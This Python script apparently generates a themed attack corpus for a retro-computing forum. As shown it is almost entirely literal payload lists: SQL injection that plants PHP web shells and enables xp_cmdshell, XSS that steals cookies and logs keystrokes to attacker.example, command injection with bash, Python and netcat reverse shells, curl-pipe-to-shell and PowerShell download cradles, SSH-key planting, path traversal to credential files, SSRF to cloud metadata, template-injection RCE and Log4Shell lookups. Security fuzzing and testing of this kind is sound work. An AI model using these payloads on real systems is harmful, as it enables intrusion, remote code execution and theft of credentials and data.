#!/usr/bin/env python3
"""Attack corpus for the retrocomputing / emulator forum theme.

Standard library only. Writes attacks.jsonl next to this file.
Literal blocks: one value per line, written as  "<class> ⇒ <value>".
Control characters are written as tokens and replaced after parsing:
  ⟪LF⟫ = U+000A, ⟪CR⟫ = U+000D, ⟪TAB⟫ = U+0009, ⟪ESC⟫ = U+001B,
  ⟪NEL⟫ = U+0085, ⟪LS⟫ = U+2028.
The only computed values are (a) a hand-written theme prefix joined to a
hand-written payload and (b) URL-encoding of one hand-written literal.
"""
import json
import os
import random
import urllib.parse

SEED = 11402
PREFIX = "hab4"

TOKENS = [("⟪LF⟫", "\n"), ("⟪CR⟫", "\r"), ("⟪TAB⟫", "\t"), ("⟪ESC⟫", "\x1b"),
          ("⟪NEL⟫", "\u0085"), ("⟪LS⟫", "\u2028")]


def L(block):
    out = []
    for line in block.split("\n"):
        line = line.strip()
        if not line:
            continue
        cls, sep, val = line.partition(" ⇒ ")
        assert sep, line
        for t, c in TOKENS:
            val = val.replace(t, c)
        out.append((cls.strip(), val))
    return out


SQLI = L(r"""
plain-tautology ⇒ ' OR '1'='1
plain-tautology-comment ⇒ ' OR 1=1-- -
plain-union ⇒ ' UNION SELECT username, password FROM users--
title-union-select ⇒ Boulder Dash' UNION SELECT NULL,username,password_hash,NULL FROM users-- -
title-union-mysql-concat ⇒ Elite (1985)' UNION ALL SELECT 1,concat(login,0x3a,pass),3 FROM members#
search-boolean-blind ⇒ c64' AND SUBSTRING((SELECT password FROM users WHERE id=1),1,1)='a'-- -
search-time-mysql ⇒ zork' AND SLEEP(5)-- -
search-time-mysql-if ⇒ amiga' AND IF(ASCII(SUBSTR(database(),1,1))>100,SLEEP(5),0)#
search-time-mysql-benchmark ⇒ 1541 belt' AND BENCHMARK(50000000,MD5('x'))-- -
search-time-pg ⇒ spectrum'; SELECT pg_sleep(10)--
search-time-pg-case ⇒ kickstart' AND (SELECT CASE WHEN (SELECT current_user)='postgres' THEN pg_sleep(5) ELSE pg_sleep(0) END) IS NOT NULL--
search-time-mssql ⇒ msx'; WAITFOR DELAY '0:0:5'--
search-time-oracle ⇒ atari' AND 1=DBMS_PIPE.RECEIVE_MESSAGE('x',5)--
search-time-sqlite ⇒ cpc' AND 1=LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB(300000000/2))))--
numeric-id-union ⇒ 1541 UNION SELECT table_name,NULL FROM information_schema.tables
numeric-id-union-false ⇒ 64 AND 1=2 UNION SELECT 1,@@version,3,4
numeric-order-by-probe ⇒ 2 ORDER BY 8--
numeric-subquery ⇒ 6502-(SELECT CASE WHEN (SELECT COUNT(*) FROM users WHERE role='admin')>0 THEN 0 ELSE 1 END)
sort-param-case ⇒ (CASE WHEN (SELECT 1 FROM users WHERE username='admin' AND password LIKE 'a%')=1 THEN title ELSE year END)
sort-param-if ⇒ IF((SELECT COUNT(*) FROM admin)>0,year,title)
sort-param-desc-stacked ⇒ year DESC; UPDATE users SET role='admin' WHERE username='retrofan'--
stacked-drop ⇒ 1; DROP TABLE posts--
stacked-mssql-xpcmdshell ⇒ '; EXEC xp_cmdshell 'ping -n 3 203.0.113.7'--
stacked-mssql-enable ⇒ '; EXEC sp_configure 'show advanced options',1; RECONFIGURE; EXEC sp_configure 'xp_cmdshell',1; RECONFIGURE--
error-mysql-extractvalue ⇒ ' AND EXTRACTVALUE(1,CONCAT(0x7e,(SELECT version()),0x7e))-- -
error-mysql-updatexml ⇒ ' AND UPDATEXML(1,CONCAT(0x7e,user()),1)#
error-mysql-floor ⇒ ' AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT((SELECT database()),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)y)-- -
error-pg-cast ⇒ ' AND 1=CAST((SELECT current_user) AS int)--
error-mssql-convert ⇒ ' AND 1=CONVERT(int,(SELECT TOP 1 name FROM sys.databases))--
error-oracle-utlinaddr ⇒ ' AND 1=utl_inaddr.get_host_name((SELECT user FROM dual))--
oob-mssql-dirtree ⇒ '; EXEC master..xp_dirtree '\\x.attacker.example\a'--
oob-oracle-utlhttp ⇒ ' UNION SELECT UTL_HTTP.REQUEST('http://attacker.example/'||(SELECT password FROM dba_users WHERE rownum=1)) FROM dual--
oob-mysql-loadfile-unc ⇒ ' UNION SELECT LOAD_FILE(CONCAT('\\\\',(SELECT password FROM users LIMIT 1),'.attacker.example\\x'))-- -
file-mysql-outfile ⇒ ' UNION SELECT '<?php system($_GET[c]); ?>' INTO OUTFILE '/var/www/html/s.php'-- -
file-mysql-loadfile ⇒ ' UNION SELECT LOAD_FILE('/etc/passwd'),2-- -
file-pg-copy-program ⇒ '; COPY (SELECT '') TO PROGRAM 'curl http://attacker.example/x|sh'--
sqlite-master ⇒ ' UNION SELECT name, sql FROM sqlite_master--
sqlite-attach-webshell ⇒ '; ATTACH DATABASE '/var/www/html/x.php' AS x; CREATE TABLE x.t (c text); INSERT INTO x.t VALUES ('<?php system($_GET[0]); ?>');--
comment-as-space ⇒ '/**/UNION/**/SELECT/**/password/**/FROM/**/users#
mysql-versioned-comment ⇒ ' /*!50000UNION*/ /*!50000SELECT*/ 1,2,group_concat(user,0x3a,authentication_string) FROM mysql.user-- -
case-mixing ⇒ ' uNiOn SeLeCt null,version()-- -
hash-comment-login ⇒ sysop'#
login-bypass-dashdash ⇒ admin'--
login-bypass-empty-or ⇒ ' or ''='
double-quote-context ⇒ " OR ""="
paren-context ⇒ ') OR ('1'='1
double-paren-context ⇒ ')) OR 1=1-- -
like-wildcard-union ⇒ %' AND 1=0 UNION SELECT user(),2,3-- -
mssql-plus-concat ⇒ '+(SELECT TOP 1 password FROM users)+'
oracle-pipe-concat ⇒ '||(SELECT banner FROM v$version WHERE rownum=1)||'
pg-stacked-superuser ⇒ '; ALTER USER forum WITH SUPERUSER--
pg-dollar-quoted ⇒ '; CREATE TABLE t(x text); COPY t FROM $$/etc/passwd$$; SELECT * FROM t--
insert-values-subselect ⇒ nice listing', (SELECT password FROM users WHERE id=1))-- -
update-set-context ⇒ ', is_admin=1 WHERE username='retrofan'-- -
nfkc-fullwidth-quote ⇒ ＇ ＯＲ １＝１－－
url-encoded-union ⇒ %27%20UNION%20SELECT%20NULL%2Cpassword%20FROM%20users--%20-
double-url-encoded-or ⇒ %2527%2520OR%25201%253D1--
no-space-parens ⇒ '||(SELECT(password)FROM(users)WHERE(id=1))||'
tab-and-newline-space ⇒ '⟪TAB⟫UNION⟪LF⟫SELECT⟪TAB⟫login,pass⟪LF⟫FROM⟪TAB⟫members--
mysql-backtick-ident ⇒ ' UNION SELECT `password`,`email` FROM `users`#
mysql-hex-string ⇒ ' UNION SELECT 1,2 FROM users WHERE username=0x61646d696e-- -
mssql-char-function ⇒ '; EXEC(CHAR(120)+CHAR(112)+'_cmdshell ''whoami''')--
mssql-openrowset ⇒ ' UNION SELECT * FROM OPENROWSET('SQLOLEDB','server=203.0.113.40;uid=sa;pwd=x','SELECT 1')--
oracle-xmltype-oob ⇒ ' AND 1=(SELECT EXTRACTVALUE(XMLTYPE('<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % x SYSTEM "http://attacker.example/">%x;]>'),'/l') FROM dual)--
bbs-handle-login ⇒ SysOp' OR 1=1 LIMIT 1-- -
disk-title-boolean ⇒ Impossible Mission (1984)(Epyx)[!].tap' AND (SELECT COUNT(*) FROM users WHERE is_admin=1)>0-- -
poke-note-union ⇒ POKE 53280,0' UNION SELECT session_token,NULL FROM sessions-- -
basic-line-stacked ⇒ 10 PRINT "HI"'); DELETE FROM listings WHERE '1'='1
rom-crc-numeric ⇒ 0 OR 1=1
hexdump-search-mysql-conditional ⇒ A9 00 8D' AND (SELECT 1 FROM (SELECT SLEEP(5))a)-- -
pg-shadow-string-agg ⇒ '; SELECT string_agg(usename||':'||passwd, ',') FROM pg_shadow--
having-probe ⇒ ' HAVING 1=1--
group-concat-tables ⇒ -1 UNION SELECT 1,GROUP_CONCAT(table_name),3 FROM information_schema.tables WHERE table_schema=database()
""")

XSS = L(r"""
plain-script ⇒ <script>alert(document.domain)</script>
sig-img-onerror ⇒ A500 | A1200 <img src=x onerror=alert(1)>
svg-onload-cookie ⇒ <svg onload=fetch('//attacker.example/c?'+document.cookie)>
details-ontoggle ⇒ <details open ontoggle=alert(1)>
iframe-srcdoc ⇒ <iframe srcdoc="&lt;script&gt;alert(document.cookie)&lt;/script&gt;"></iframe>
markdown-javascript-link ⇒ [C64 Programmer's Reference Guide](javascript:alert(document.cookie))
data-uri-link ⇒ <a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">manual.pdf</a>
attr-break-dq ⇒ " onmouseover="alert(1)
attr-break-autofocus ⇒ " autofocus onfocus=alert(document.cookie) x="
attr-break-sq ⇒ ' onpointerenter='alert(1)
js-string-break-sq ⇒ ';alert(String.fromCharCode(88,83,83));//
js-string-break-dq ⇒ ";alert(document.cookie);//
script-close-break ⇒ </script><script>alert(1)</script>
textarea-break ⇒ </textarea><script>alert(1)</script>
title-break-svg ⇒ </title><svg/onload=alert(1)>
case-mixing ⇒ <ScRiPt>alert(1)</sCrIpT>
entity-encoded-scheme ⇒ <a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">manual</a>
hex-entity-tab-scheme ⇒ <a href="javas&#x09;cript:alert(1)">Boulder Dash tips</a>
raw-tab-in-scheme ⇒ <a href="java⟪TAB⟫script:alert(1)">disk 2</a>
url-encoded-script ⇒ %3Cscript%3Ealert(1)%3C%2Fscript%3E
double-url-encoded-script ⇒ %253Cscript%253Ealert(1)%253C%252Fscript%253E
percent-u-encoded ⇒ %u003Cscript%u003Ealert(1)%u003C/script%u003E
js-unicode-escape-innerhtml ⇒ \u003cimg src=x onerror=alert(1)\u003e
nfkc-fullwidth-brackets ⇒ ＜script＞alert(1)＜/script＞
overlong-utf8 ⇒ %C0%BCscript%C0%BEalert(1)%C0%BC/script%C0%BE
svg-animate-onbegin ⇒ <svg><animate onbegin=alert(1) attributeName=x dur=1s>
math-xlink-href ⇒ <math><a xlink:href="javascript:alert(1)">CLICK</a></math>
object-data-js ⇒ <object data="javascript:alert(1)"></object>
embed-svg-data ⇒ <embed src="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=">
input-autofocus ⇒ <input autofocus onfocus=alert(1)>
marquee-onstart ⇒ <marquee onstart=alert(1)>*** WELCOME TO THE TWILIGHT ZONE BBS ***</marquee>
video-source-onerror ⇒ <video><source onerror=alert(1)></video>
ie-css-expression ⇒ <div style="width:expression(alert(1))">READY.</div>
meta-refresh-js ⇒ <meta http-equiv="refresh" content="0;url=javascript:alert(1)">
base-href-hijack ⇒ <base href="//attacker.example/">
form-phishing ⇒ <form action="https://attacker.example/login"><p>Session expired, log in again:</p><input name=user><input name=pass type=password><button>OK</button></form>
angularjs-csti ⇒ {{constructor.constructor('alert(document.cookie)')()}}
dom-hash-img ⇒ #<img src=x onerror=alert(document.domain)>
img-atob-eval ⇒ <img src=x:x onerror=eval(atob('YWxlcnQoMSk='))>
svg-backtick-call ⇒ <svg onload=alert`1`>
slash-separator ⇒ <svg/onload=alert(1)>
no-space-slashes ⇒ <img/src/onerror=alert(1)>
comment-confusion ⇒ <!--<img src="--><img src=x onerror=alert(1)//">
pointerover-div ⇒ <div onpointerover="alert(1)">MOVE THE JOYSTICK HERE</div>
css-animation-event ⇒ <style>@keyframes k{}</style><b style="animation-name:k" onanimationstart="alert(1)">LOAD</b>
noscript-mxss ⇒ <noscript><p title="</noscript><img src=x onerror=alert(1)>">
markdown-entity-scheme ⇒ [disk image](javascript&#58;alert(1))
markdown-img-attr-break ⇒ ![1541](x"onerror="alert(1))
svg-script-href ⇒ <svg><script href="data:,alert(1)"></script></svg>
iframe-js-src ⇒ <iframe src="javascript:alert(document.cookie)"></iframe>
keylogger ⇒ <img src=x onerror="document.onkeypress=function(e){new Image().src='//attacker.example/k?'+e.key}">
cookie-exfil-image ⇒ <script>new Image().src='https://attacker.example/c?'+document.cookie</script>
external-script ⇒ <script src=//attacker.example/x.js></script>
attr-break-external-script ⇒ "><script src=https://attacker.example/a.js></script>
sq-attr-break-svg ⇒ '><svg onload=alert(1)>
entity-in-handler ⇒ <img src=x onerror="&#97;lert(1)">
unicode-escape-identifier ⇒ <img src=x onerror="\u0061lert(1)">
settimeout-string-concat ⇒ <svg onload=setTimeout('al'+'ert(1)')>
bracket-property-call ⇒ <img src=x onerror=top['al'+'ert'](1)>
constructor-chain ⇒ <img src=x onerror=[].constructor.constructor('alert(1)')()>
body-onload-redirect ⇒ <body onload="location='https://attacker.example/?c='+encodeURIComponent(document.cookie)">
ansi-prefix-script ⇒ ESC[1;33m WELCOME ESC[0m<script>alert(1)</script>
basic-listing-img ⇒ 10 PRINT "<img src=x onerror=alert(1)>"
hexdump-ascii-svg ⇒ 00000000  3c 73 76 67  |<svg onload=alert(1)>|
bbs-handle-attr-break ⇒ DarkKnight"><svg onload=alert(document.cookie)>
emu-path-script ⇒ ~/roms/c64/<script>alert(1)</script>.d64
tosec-flag-img ⇒ Elite (1985)(Firebird)[<img src=x onerror=alert(1)>].d64
srcset-onerror ⇒ <img srcset=",,,,x" onerror=alert(1)>
html5-formaction ⇒ <form><button formaction=javascript:alert(1)>SAVE "GAME",8</button></form>
xml-namespace-script ⇒ <x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>
javascript-uppercase-scheme ⇒ <a href="JaVaScRiPt:alert(1)">LIST</a>
vbscript-legacy ⇒ <a href="vbscript:MsgBox(1)">old IE manual</a>
json-script-block-break ⇒ "}</script><script>alert(1)</script>
""")

CMDI = L(r"""
disk-name-semicolon ⇒ game.d64; cat /etc/passwd
disk-name-pipe-nc ⇒ boulder.prg | nc 203.0.113.9 4444 -e /bin/sh
disk-name-andand-curl ⇒ manic.tzx && curl -s http://attacker.example/s.sh | sh
disk-name-oror-wget ⇒ nonexist.adf || wget -qO- http://198.51.100.23/x | bash
backtick-subst ⇒ `id`.d64
dollar-paren-subst ⇒ $(whoami).tap
raw-newline ⇒ game.d64⟪LF⟫id
url-encoded-newline ⇒ game.d64%0acat%20/etc/shadow
ifs-space ⇒ ;cat${IFS}/etc/passwd
brace-expansion ⇒ ;{cat,/etc/passwd}
bbs-host-ping ⇒ bbs.retro-forum.example; ping -c 3 203.0.113.5
reverse-shell-bash ⇒ ; bash -i >& /dev/tcp/203.0.113.66/9001 0>&1
reverse-shell-python ⇒ ;python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.66",9001));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")'
reverse-shell-mkfifo ⇒ ;rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.66 9001 >/tmp/f
argv-tar-checkpoint ⇒ --checkpoint=1 --checkpoint-action=exec='sh /tmp/x.sh'
argv-tar-to-command ⇒ --to-command=sh -c 'curl attacker.example/t|sh'
argv-zip-unzip-command ⇒ -T -TT 'sh -c id'
argv-find-exec ⇒ -exec sh -c 'id > /tmp/pwn' \;
argv-curl-output ⇒ -o /var/www/html/sh.php http://attacker.example/sh.txt
argv-wget-post-file ⇒ --post-file=/etc/passwd http://attacker.example/
argv-ssh-proxycommand ⇒ -oProxyCommand='curl${IFS}attacker.example/p|sh'
argv-git-upload-pack ⇒ --upload-pack='touch /tmp/pwned'
argv-rsync-rsh ⇒ -e 'sh -c "id>/tmp/x"'
argv-sendmail-logfile ⇒ -OQueueDirectory=/tmp -X/var/www/html/shell.php
win-ampersand-type ⇒ game.d64 & type C:\Windows\win.ini
win-net-user ⇒ & net user retro P@ssw0rd1 /add & net localgroup administrators retro /add
win-powershell-iex ⇒ | powershell -nop -c "IEX(New-Object Net.WebClient).DownloadString('http://attacker.example/a.ps1')"
win-powershell-enc ⇒ & powershell -NoP -W Hidden -enc SQBFAFgAIAAoAEkAVwBSACAAaAB0AHQAcAA6AC8ALwBhAHQAdABhAGMAawBlAHIALgBlAHgAYQBtAHAAbABlAC8AYQAuAHAAcwAxACAALQBVAHMAZQBCAGEAcwBpAGMAUABhAHIAcwBpAG4AZwApAA==
win-certutil-download ⇒ & certutil -urlcache -split -f http://attacker.example/nc.exe %TEMP%\nc.exe
win-caret-obfuscation ⇒ & c^m^d /c wh^oami
win-comspec ⇒ | %COMSPEC% /c dir C:\Users
dos-copy-then-del ⇒ COPY A:\*.* C:\TEMP & del /q /s C:\inetpub\wwwroot\*
win-bitsadmin ⇒ & bitsadmin /transfer x http://attacker.example/x.exe C:\Users\Public\x.exe & C:\Users\Public\x.exe
win-mshta ⇒ & mshta http://attacker.example/x.hta
win-rundll32-js ⇒ & rundll32.exe javascript:"\..\mshtml,RunHTMLApplication ";document.write();GetObject("script:http://attacker.example/x.sct")
ps-subexpression ⇒ $(Start-Process calc.exe)
ps-semicolon-iwr ⇒ '; Invoke-WebRequest -Uri http://attacker.example/u -Method POST -Body (Get-Content C:\Windows\win.ini); '
dq-break ⇒ "; id; echo "
sq-break ⇒ '; id; echo '
dq-dollar-paren ⇒ "$(curl -s attacker.example/i.sh|sh)"
ansi-c-quoting ⇒ ;$'\x63\x61\x74' /etc/passwd
glob-obfuscation ⇒ ;/???/c?t /e??/p?ss??
quote-splitting ⇒ ;c'a't /e"t"c/pa\ss\wd
base64-pipe-sh ⇒ ;echo Y2F0IC9ldGMvcGFzc3dk|base64 -d|sh
sleep-timing ⇒ game.d64; sleep 10 #
backtick-sleep ⇒ `sleep 5`
dns-exfil ⇒ ;nslookup $(whoami).x.attacker.example
curl-exfil ⇒ ;curl -d @/etc/passwd http://attacker.example/up
printf-hex ⇒ ;$(printf '\x69\x64')
modem-dialstring-subst ⇒ ATDT5551234$(id)
perl-open-pipe ⇒ |cat /etc/passwd
shellshock-header ⇒ () { :; }; /bin/bash -c 'curl http://attacker.example/ss|sh'
shellshock-echo ⇒ () { :;}; echo; /bin/cat /etc/passwd
emulator-flag-semicolon ⇒ -autostart game.d64; wget http://198.51.100.7/m -O /tmp/m; chmod +x /tmp/m; /tmp/m
c1541-attach-subst ⇒ -attach "$(id>/tmp/o)".d64 -list
dosbox-conf-cron-drop ⇒ dosbox.conf; echo '* * * * * root curl attacker.example/c|sh' > /etc/cron.d/x
romset-name-newline-encoded ⇒ pacman%0Dcurl%20attacker.example%7Csh
tab-separator ⇒ ;cat⟪TAB⟫/etc/passwd
redirect-overwrite ⇒ ; echo 'ssh-rsa AAAAB3NzaFAKE attacker' >> ~/.ssh/authorized_keys
ifs-variable-substring ⇒ ;cat${HOME:0:1}etc${HOME:0:1}passwd
xargs-chain ⇒ ; echo id | xargs sh -c
awk-system ⇒ ; awk 'BEGIN{system("id")}'
busybox-nc ⇒ ; busybox nc 203.0.113.66 9001 -e sh
php-r-subst ⇒ $(php -r 'system("id");')
hostname-with-oror-windows ⇒ bbs.local || ping -n 5 198.51.100.2
pipe-mail-exfil ⇒ | mail -s pw attacker@attacker.example < /etc/passwd
""")

TRAVERSAL = L(r"""
plain-dotdot ⇒ ../../../../etc/passwd
rom-dir-escape ⇒ games/c64/../../../../etc/shadow
windows-backslash ⇒ ..\..\..\..\windows\win.ini
nested-strip-bypass ⇒ ....//....//....//etc/passwd
url-encoded-slash ⇒ ..%2f..%2f..%2fetc%2fpasswd
url-encoded-dots ⇒ %2e%2e%2f%2e%2e%2fetc/passwd
double-url-encoded ⇒ %252e%252e%252fetc%252fpasswd
overlong-utf8-slash ⇒ ..%c0%af..%c0%af..%c0%afetc/passwd
overlong-3byte-slash ⇒ ..%e0%80%af..%e0%80%afetc/passwd
percent-u-slash ⇒ ..%u2215..%u2215..%u2215etc/passwd
encoded-backslash ⇒ ..%5c..%5c..%5cwindows%5cwin.ini
null-byte-extension ⇒ /etc/passwd%00.d64
dotdot-null-ext ⇒ ../../../etc/passwd%00.adf
absolute-windows ⇒ C:\Windows\System32\drivers\etc\hosts
proc-environ ⇒ /proc/self/environ
proc-cmdline ⇒ ../../../../proc/self/cmdline
log-poisoning-target ⇒ ../../../var/log/nginx/access.log
php-filter-wrapper ⇒ php://filter/convert.base64-encode/resource=../config.php
tomcat-path-param ⇒ roms/..;/WEB-INF/web.xml
double-encoded-webinf ⇒ /static/..%252f..%252fWEB-INF/web.xml
dot-dot-slash-dot ⇒ ..././..././..././etc/passwd
mixed-slash ⇒ ..\/..\/..\/etc/passwd
nfkc-fullwidth ⇒ ．．／．．／．．／etc/passwd
fullwidth-slash-encoded ⇒ ..%ef%bc%8f..%ef%bc%8f..%ef%bc%8fetc/passwd
zip-slip-entry ⇒ ../../../../home/forum/.ssh/authorized_keys
root-history ⇒ ../../../../../../root/.bash_history
ssh-key-absolute ⇒ /root/.ssh/id_rsa
dos-path-escape ⇒ C:\GAMES\..\..\..\Windows\win.ini
dotenv ⇒ ..%2F..%2F..%2F..%2Fapp%2F.env
git-config ⇒ ../../.git/config
webroot-config ⇒ ../../../../var/www/html/config.php
quad-dot-backslash ⇒ ....\\....\\....\\windows\\win.ini
encoded-dot-literal-slash ⇒ %2e%2e/%2e%2e/%2e%2e/etc/passwd
double-encoded-boot-ini ⇒ ..%252f..%252f..%252fboot.ini
leading-slash-dotdot ⇒ /../../../../etc/passwd
half-encoded-dot ⇒ .%2e/.%2e/.%2e/etc/passwd
overlong-dot ⇒ %c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd
webinf-escape ⇒ WEB-INF/../../../../etc/passwd
avatar-upload-escape ⇒ uploads/avatars/../../../../../../etc/group
absolute-prefix-escape ⇒ /var/lib/forum/disks/../../../../etc/passwd
windows-sam ⇒ \..\..\..\..\..\Windows\System32\config\SAM
iis-webconfig ⇒ ..\..\..\inetpub\wwwroot\web.config
proc-fd ⇒ /proc/self/fd/3
unc-share ⇒ \\203.0.113.15\share\payload.d64
""")

SSRF = L(r"""
aws-imds-creds ⇒ http://169.254.169.254/latest/meta-data/iam/security-credentials/
aws-imds-userdata ⇒ http://169.254.169.254/latest/user-data
gcp-metadata ⇒ http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token
azure-imds ⇒ http://169.254.169.254/metadata/instance?api-version=2021-02-01
alibaba-metadata ⇒ http://100.100.100.200/latest/meta-data/
redis-localhost ⇒ http://127.0.0.1:6379/
spring-actuator ⇒ http://localhost:8080/actuator/env
ipv6-loopback ⇒ http://[::1]:22/
ipv4-mapped-ipv6 ⇒ http://[::ffff:127.0.0.1]/admin
octal-ip ⇒ http://0177.0.0.1/
decimal-ip ⇒ http://2130706433/
hex-ip ⇒ http://0x7f000001/
short-ip ⇒ http://127.1/server-status
zero-ip ⇒ http://0/
any-address-elastic ⇒ http://0.0.0.0:9200/_cat/indices
wildcard-dns-metadata ⇒ http://169.254.169.254.nip.io/latest/meta-data/
userinfo-confusion ⇒ http://attacker.example@169.254.169.254/latest/meta-data/
dns-rebinding ⇒ http://rebind.attacker.example:8080/admin
open-redirect-chain ⇒ http://attacker.example/r?to=http://169.254.169.254/latest/meta-data/
gopher-redis-webshell ⇒ gopher://127.0.0.1:6379/_SET%20shell%20%22%3C%3Fphp%20system%28%24_GET%5Bc%5D%29%3B%3F%3E%22%0D%0ACONFIG%20SET%20dir%20%2Fvar%2Fwww%2Fhtml%0D%0ACONFIG%20SET%20dbfilename%20s.php%0D%0ASAVE%0D%0A
gopher-smtp ⇒ gopher://127.0.0.1:25/_HELO%20x%0D%0AMAIL%20FROM%3A%3Cx%40attacker.example%3E%0D%0ARCPT%20TO%3A%3Cadmin%40localhost%3E%0D%0ADATA%0D%0Ahi%0D%0A.%0D%0A
dict-memcached ⇒ dict://127.0.0.1:11211/stats
file-scheme-passwd ⇒ file:///etc/passwd
file-scheme-windows ⇒ file:///c:/windows/win.ini
ldap-scheme-internal ⇒ ldap://127.0.0.1:389/dc=forum,dc=local??sub
jar-scheme ⇒ jar:http://attacker.example/x.zip!/x.class
rfc1918-admin ⇒ http://10.0.0.1/admin
router-cgi ⇒ http://192.168.0.1/cgi-bin/luci
docker-api ⇒ http://172.17.0.1:2375/containers/json
kubernetes-api ⇒ https://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets
consul-kv ⇒ http://consul.service.consul:8500/v1/kv/?recurse
etcd-keys ⇒ http://127.0.0.1:2379/v2/keys/?recursive=true
ipv6-mapped-metadata ⇒ http://[0:0:0:0:0:ffff:a9fe:a9fe]/latest/meta-data/
enclosed-alnum-idna ⇒ http://①②⑦.⓪.⓪.①/
hex-dotted-metadata ⇒ http://0xa9.0xfe.0xa9.0xfe/latest/meta-data/
octal-dotted-metadata ⇒ http://0251.0376.0251.0376/latest/meta-data/
decimal-metadata ⇒ http://2852039166/latest/meta-data/
nip-io-loopback ⇒ http://127.0.0.1.nip.io:8080/
localtest-me ⇒ http://localtest.me/admin
credentials-router ⇒ http://admin:admin@192.168.1.1/
netdoc-java ⇒ netdoc:///etc/passwd
disk-import-url-consul ⇒ http://127.0.0.1:8500/v1/agent/self#game.d64
rom-fetch-metadata ⇒ http://169.254.169.254/latest/meta-data/iam/security-credentials/?file=kick13.rom
avatar-url-internal ⇒ http://intranet.local/admin/users.csv#avatar.png
telnet-bbs-internal ⇒ telnet://127.0.0.1:23/
uppercase-localhost ⇒ http://LOCALHOST:8080/manage
trailing-dot-host ⇒ http://localhost.:3000/api/admin
""")

CODE = L(r"""
jinja2-cycler-popen ⇒ {{ cycler.__init__.__globals__.os.popen('id').read() }}
jinja2-templatereference ⇒ {{ self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id').read() }}
jinja2-subclasses ⇒ {{ ''.__class__.__mro__[1].__subclasses__() }}
jinja2-request-builtins ⇒ {{ request.application.__globals__.__builtins__.__import__('os').popen('id').read() }}
jinja2-attr-filter ⇒ {{ lipsum|attr('__globals__')|attr('__getitem__')('os')|attr('popen')('id')|attr('read')() }}
jinja2-hex-escape-attr ⇒ {{ ()|attr('\x5f\x5fclass\x5f\x5f')|attr('\x5f\x5fbase\x5f\x5f')|attr('\x5f\x5fsubclasses\x5f\x5f')() }}
jinja2-config-leak ⇒ {{ config.items() }}
twig-filter-system ⇒ {{['id']|filter('system')}}
twig-undefined-filter ⇒ {{_self.env.registerUndefinedFilterCallback("exec")}}{{_self.env.getFilter("id")}}
freemarker-execute-assign ⇒ <#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}
freemarker-execute-inline ⇒ ${"freemarker.template.utility.Execute"?new()("id")}
velocity-runtime ⇒ #set($e="")$e.getClass().forName("java.lang.Runtime").getMethod("getRuntime",null).invoke(null,null).exec("id")
thymeleaf-preprocess ⇒ __${T(java.lang.Runtime).getRuntime().exec('id')}__::.x
smarty-system ⇒ {system('id')}
smarty-php-tag ⇒ {php}system('id');{/php}
mako-import ⇒ <% import os; x=os.popen('id').read() %>${x}
erb-backtick ⇒ <%= `id` %>
erb-system ⇒ <%= system('cat /etc/passwd') %>
pug-interpolation ⇒ #{root.process.mainModule.require('child_process').execSync('id')}
nunjucks-range-constructor ⇒ {{range.constructor("return global.process.mainModule.require('child_process').execSync('id')")()}}
ejs-output ⇒ <%= global.process.mainModule.require('child_process').execSync('id') %>
dot-js-template ⇒ {{= global.process.mainModule.require('child_process').execSync('id') }}
razor-process-start ⇒ @System.Diagnostics.Process.Start("cmd.exe","/c whoami > C:\\inetpub\\wwwroot\\o.txt")
tornado-import ⇒ {% import os %}{{ os.popen('id').read() }}
django-settings-leak ⇒ {{ settings.SECRET_KEY }}
groovy-execute ⇒ ${"id".execute().text}
el-runtime-reflection ⇒ ${''.getClass().forName('java.lang.Runtime').getMethod('exec',''.getClass()).invoke(''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null),'id')}
el-session-tamper ⇒ ${pageContext.request.getSession().setAttribute("role","admin")}
ognl-runtime ⇒ %{(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('id'))}
ognl-memberaccess ⇒ ${(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('id'))}
spel-hash-runtime ⇒ #{T(java.lang.Runtime).getRuntime().exec('id')}
spel-bare-runtime ⇒ T(java.lang.Runtime).getRuntime().exec("curl attacker.example")
spel-processbuilder ⇒ #{new java.lang.ProcessBuilder({'id'}).start()}
python-eval-import ⇒ __import__('os').system('id')
python-eval-compile ⇒ eval(compile('import os;os.system("id")','x','exec'))
php-eval-break ⇒ ';system($_GET['c']);//
php-eval-concat ⇒ ".system('id')."
php-complex-interpolation ⇒ ${system('id')}
node-eval-child-process ⇒ require('child_process').exec('curl attacker.example/x|sh')
node-eval-mainmodule ⇒ process.mainModule.require('child_process').execSync('id').toString()
ruby-interpolation ⇒ #{`id`}
js-function-constructor ⇒ this.constructor.constructor('return process')().mainModule.require('child_process').execSync('id')
log4shell-ldap ⇒ ${jndi:ldap://attacker.example:1389/a}
log4shell-rmi ⇒ ${jndi:rmi://203.0.113.10:1099/x}
log4shell-lower-lookup ⇒ ${${lower:j}ndi:${lower:l}dap://attacker.example/x}
log4shell-default-value ⇒ ${${::-j}${::-n}${::-d}${::-i}:ldap://attacker.example/a}
log4shell-env-exfil ⇒ ${jndi:ldap://${env:USER}.attacker.example/a}
log4shell-env-default ⇒ ${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//attacker.example/b}
log4shell-dns ⇒ ${jndi:dns://attacker.example/probe}
proto-pollution-json ⇒ {"__proto__":{"isAdmin":true}}
proto-pollution-constructor ⇒ {"constructor":{"prototype":{"admin":true}}}
